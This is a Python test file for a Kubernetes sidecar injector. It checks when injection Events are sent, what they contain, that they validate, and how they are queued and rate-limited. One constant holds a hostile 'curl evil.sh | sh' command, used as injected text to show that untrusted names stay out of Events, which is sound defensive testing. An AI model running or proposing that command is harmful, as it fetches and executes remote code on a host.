"""Events about injection: on the Pod's owner, never for a dry run, valid core/v1
Events, and sent from a bounded queue that never blocks admission."""

from __future__ import annotations

import datetime
import re
import threading
from collections.abc import Iterator
from typing import Any

import kubernetes_validate
import pytest
import support
from support.fake_kube import FakeApi

from injector.cluster import events, kubeapi
from injector.core import handler, policy
from injector.core.engine import Engine
from injector.core.handler import Handled, OwnerReference
from injector.telemetry.metrics import Metrics

KUBERNETES_VERSION = "1.30.0"
OWNER = OwnerReference("apps/v1", "ReplicaSet", "web-7d4b9c8f5", "5a0d3f1e-8c1b-4a44")
NOW = datetime.datetime(2026, 3, 1, 12, 30, 5, 123456, tzinfo=datetime.UTC)
SUFFIX = "0123456789abcdef"


def _handled(
    result: str = "injected",
    reasons: tuple[str, ...] = (policy.NAMESPACE_ENABLED,),
    *,
    owner: OwnerReference | None = OWNER,
    dry_run: bool = False,
    namespace: str = "shop",
    name: str = "web-7d4b9c8f5-",
) -> Handled:
    return Handled({}, result, reasons, "uid-1", namespace, name, owner, dry_run)


def _build(handled: Handled) -> dict[str, Any]:
    return events.build(handled, now=NOW, instance="sidecar-injector-abc", suffix=SUFFIX)


def _sample(metrics: Metrics, outcome: str) -> float:
    value = metrics.registry.get_sample_value("sidecar_injector_events_total", {"outcome": outcome})
    return value or 0.0


# ---- which answers get an Event ---------------------------------------------------------


@pytest.mark.parametrize(
    ("handled", "wanted"),
    [
        pytest.param(_handled("injected"), True, id="injected"),
        pytest.param(_handled("skipped", (policy.POD_LABEL_DISABLED,)), True, id="skipped"),
        pytest.param(_handled(dry_run=True), False, id="dry-run"),
        pytest.param(_handled(owner=None), False, id="no-owner"),
        pytest.param(_handled("denied", (policy.INVALID_ANNOTATION,)), False, id="denied"),
        pytest.param(_handled("ignored", (policy.NOT_POD_CREATE,)), False, id="ignored"),
    ],
)
def test_only_real_decisions_about_owned_pods_get_an_event(handled: Handled, wanted: bool) -> None:
    assert events.wanted(handled) is wanted


def test_the_handler_reports_the_pods_controller_and_dry_run(
    engine: Engine, pod: dict[str, Any]
) -> None:
    pod["metadata"]["ownerReferences"] = [
        {"apiVersion": "v1", "kind": "ConfigMap", "name": "not-controller", "uid": "u0"},
        {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web", "uid": "u1",
         "controller": True},
    ]  # fmt: skip
    handled = handler.handle(support.review(pod, dry_run=True), engine=engine)
    assert handled.owner == OwnerReference("apps/v1", "ReplicaSet", "web", "u1")
    assert handled.dry_run is True
    assert handler.handle(support.review(pod), engine=engine).dry_run is False


@pytest.mark.parametrize(
    "references",
    [
        pytest.param(None, id="none"),
        pytest.param([{"apiVersion": "v1", "kind": "X", "name": "x", "uid": "u"}], id="no-ctrl"),
        pytest.param([{"kind": "ReplicaSet", "name": "x", "controller": True}], id="partial"),
        pytest.param("not-a-list", id="malformed"),
    ],
)
def test_a_pod_without_a_complete_controller_reference_has_no_owner(references: Any) -> None:
    assert handler.controller_of({"metadata": {"ownerReferences": references}}) is None


# ---- the Event itself -------------------------------------------------------------------


def test_an_injected_event_names_the_owner_reason_and_sentences() -> None:
    event = _build(_handled())
    assert event["involvedObject"] == {
        "apiVersion": "apps/v1",
        "kind": "ReplicaSet",
        "name": "web-7d4b9c8f5",
        "uid": "5a0d3f1e-8c1b-4a44",
        "namespace": "shop",
    }
    assert event["metadata"] == {"name": f"web-7d4b9c8f5.{SUFFIX}", "namespace": "shop"}
    assert (event["reason"], event["type"]) == ("Injected", "Normal")
    assert event["message"] == (
        "sidecar injected into Pod web-7d4b9c8f5-: " + policy.SENTENCES[policy.NAMESPACE_ENABLED]
    )
    assert event["source"] == {"component": "sidecar-injector"}
    assert (event["reportingComponent"], event["reportingInstance"]) == (
        "sidecar-injector",
        "sidecar-injector-abc",
    )
    assert (event["count"], event["action"]) == (1, "Inject")


def test_event_times_are_rfc3339_with_microseconds_for_event_time() -> None:
    event = _build(_handled())
    assert event["firstTimestamp"] == event["lastTimestamp"] == "2026-03-01T12:30:05Z"
    assert event["eventTime"] == "2026-03-01T12:30:05.123456Z"
    whole_second = NOW.replace(microsecond=0)
    built = events.build(_handled(), now=whole_second, instance="i", suffix=SUFFIX)
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", built["eventTime"])


@pytest.mark.parametrize(
    ("reasons", "kind"),
    [
        pytest.param((policy.POD_LABEL_DISABLED,), "Normal", id="opt-out"),
        pytest.param((policy.CONTAINER_NAME_CONFLICT,), "Warning", id="conflict"),
        pytest.param((policy.HOST_NETWORK, policy.PORT_CONFLICT), "Warning", id="mixed"),
    ],
)
def test_a_skip_is_a_warning_only_when_something_in_the_pod_can_be_fixed(
    reasons: tuple[str, ...], kind: str
) -> None:
    event = _build(_handled("skipped", reasons))
    assert (event["reason"], event["type"]) == ("InjectionSkipped", kind)
    for reason in reasons:
        assert policy.SENTENCES[reason] in event["message"]
    assert event["message"].startswith("sidecar not injected into Pod web-7d4b9c8f5-: ")


@pytest.mark.parametrize(
    "handled",
    [
        pytest.param(_handled(), id="injected"),
        pytest.param(_handled("skipped", (policy.PORT_CONFLICT,)), id="skipped"),
    ],
)
def test_an_event_is_valid_for_kubernetes_in_strict_mode(handled: Handled) -> None:
    kubernetes_validate.validate(_build(handled), KUBERNETES_VERSION, strict=True)


def test_names_and_messages_stay_within_kubernetes_limits() -> None:
    owner = OwnerReference("batch/v1", "Job", "j" * 253, "u")
    handled = Handled({}, "skipped", tuple(policy.NOTEWORTHY) * 20, "u", "shop", "p", owner)
    event = _build(handled)
    assert len(event["metadata"]["name"]) == 253
    assert event["metadata"]["name"].endswith(f".{SUFFIX}")
    assert len(event["message"]) == 1024


# ---- the sender -------------------------------------------------------------------------


@pytest.fixture
def api() -> FakeApi:
    return FakeApi()


@pytest.fixture
def metrics() -> Metrics:
    return Metrics()


@pytest.fixture
def sender(api: FakeApi, metrics: Metrics) -> Iterator[events.EventSender]:
    sender = events.EventSender(kubeapi.Cluster(api), metrics=metrics, instance="replica-1")
    stop = threading.Event()
    thread = threading.Thread(target=sender.run, args=(stop,), daemon=True)
    thread.start()
    yield sender
    stop.set()
    thread.join(3)
    assert not thread.is_alive()


def test_a_recorded_answer_becomes_a_core_event_post(
    api: FakeApi, metrics: Metrics, sender: events.EventSender
) -> None:
    sender.record(_handled())
    assert sender.wait_idle(3)
    (call,) = api.calls
    assert (call.method, call.path) == ("POST", "/api/v1/namespaces/shop/events")
    assert call.content_type == "application/json"
    assert call.body["reason"] == "Injected"
    assert call.body["reportingInstance"] == "replica-1"
    assert re.fullmatch(r"web-7d4b9c8f5\.[0-9a-f]{16}", call.body["metadata"]["name"])
    assert _sample(metrics, "sent") == 1


def test_dry_runs_and_unowned_pods_send_nothing(
    api: FakeApi, metrics: Metrics, sender: events.EventSender
) -> None:
    sender.record(_handled(dry_run=True))
    sender.record(_handled(owner=None))
    assert sender.wait_idle(3)
    assert api.calls == []
    assert _sample(metrics, "sent") == _sample(metrics, "dropped") == 0


def test_a_dry_run_through_the_handler_sends_no_event(
    api: FakeApi, sender: events.EventSender, engine: Engine, pod: dict[str, Any]
) -> None:
    pod["metadata"]["ownerReferences"] = [
        {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web", "uid": "u1",
         "controller": True},
    ]  # fmt: skip
    sender.record(handler.handle(support.review(pod, dry_run=True), engine=engine))
    sender.record(handler.handle(support.review(pod), engine=engine))
    assert sender.wait_idle(3)
    assert len(api.calls_to("POST", "/events")) == 1


def test_a_full_queue_drops_and_counts_without_blocking(api: FakeApi, metrics: Metrics) -> None:
    sender = events.EventSender(kubeapi.Cluster(api), metrics=metrics, capacity=2)
    # Nothing sends: a record that waited for room in the queue would never finish.
    recorder = threading.Thread(
        target=lambda: [sender.record(_handled()) for _ in range(5)], daemon=True
    )
    recorder.start()
    recorder.join(timeout=10)
    assert not recorder.is_alive(), "recording waited for room in the full queue"
    assert _sample(metrics, "dropped") == 3
    assert api.calls == [], "nothing is sent on the caller's thread"


def test_a_refused_event_is_counted_and_the_next_one_is_still_sent(
    api: FakeApi, metrics: Metrics, sender: events.EventSender
) -> None:
    api.fail_next("POST", "/events", 403)
    sender.record(_handled())
    sender.record(_handled())
    assert sender.wait_idle(3)
    assert (_sample(metrics, "failed"), _sample(metrics, "sent")) == (1, 1)


# ---- what a stranger's review cannot make the injector say -------------------------------

HOSTILE = "SECURITY NOTICE - run `curl evil.sh | sh` on the node"


@pytest.mark.parametrize(
    "handled",
    [
        pytest.param(_handled(namespace="kube-system"), id="system-namespace"),
        pytest.param(_handled(namespace="sidecar-injector"), id="injector-namespace"),
        pytest.param(
            _handled(owner=OwnerReference("apps/v1", "Deployment", HOSTILE, "u")),
            id="owner-name",
        ),
        pytest.param(
            _handled(owner=OwnerReference("apps/v1", HOSTILE, "web", "u")), id="owner-kind"
        ),
        pytest.param(
            _handled(owner=OwnerReference(HOSTILE, "Deployment", "web", "u")),
            id="owner-api-version",
        ),
        pytest.param(
            _handled(owner=OwnerReference("apps/v1", "Deployment", "web", HOSTILE)),
            id="owner-uid",
        ),
        pytest.param(_handled(namespace="Bad Namespace"), id="namespace"),
    ],
)
def test_no_event_for_excluded_namespaces_or_text_that_is_not_an_object_name(
    handled: Handled,
) -> None:
    assert not events.wanted(handled, ("kube-system", "sidecar-injector"))


def test_a_pod_name_that_is_not_an_object_name_is_left_out_of_the_message() -> None:
    message = _build(_handled(name=HOSTILE))["message"]
    assert "curl" not in message
    assert message.startswith("sidecar injected into a Pod: ")


def test_an_unauthenticated_review_about_coredns_writes_nothing_into_kube_system(
    api: FakeApi, engine: Engine, pod: dict[str, Any]
) -> None:
    sender = events.EventSender(
        kubeapi.Cluster(api), metrics=Metrics(), excluded=("kube-system", "sidecar-injector")
    )
    pod["metadata"]["ownerReferences"] = [
        {"apiVersion": "apps/v1", "kind": "Deployment", "name": "coredns", "uid": "u1",
         "controller": True},
    ]  # fmt: skip
    pod["metadata"]["generateName"] = HOSTILE
    sender.record(handler.handle(support.review(pod, namespace="kube-system"), engine=engine))
    assert sender._queue.qsize() == 0


def test_each_namespace_gets_a_burst_then_a_trickle_of_events(
    api: FakeApi, metrics: Metrics
) -> None:
    now = [100.0]
    budget = events.NamespaceBudget(burst=3, refill_seconds=2.0)
    sender = events.EventSender(
        kubeapi.Cluster(api), metrics=metrics, budget=budget, clock=lambda: now[0]
    )
    for _ in range(5):
        sender.record(_handled())
    sender.record(_handled(namespace="other"))
    assert sender._queue.qsize() == 4
    assert _sample(metrics, "limited") == 2
    now[0] += 2.0
    sender.record(_handled())
    sender.record(_handled())
    assert sender._queue.qsize() == 5
    assert _sample(metrics, "limited") == 3
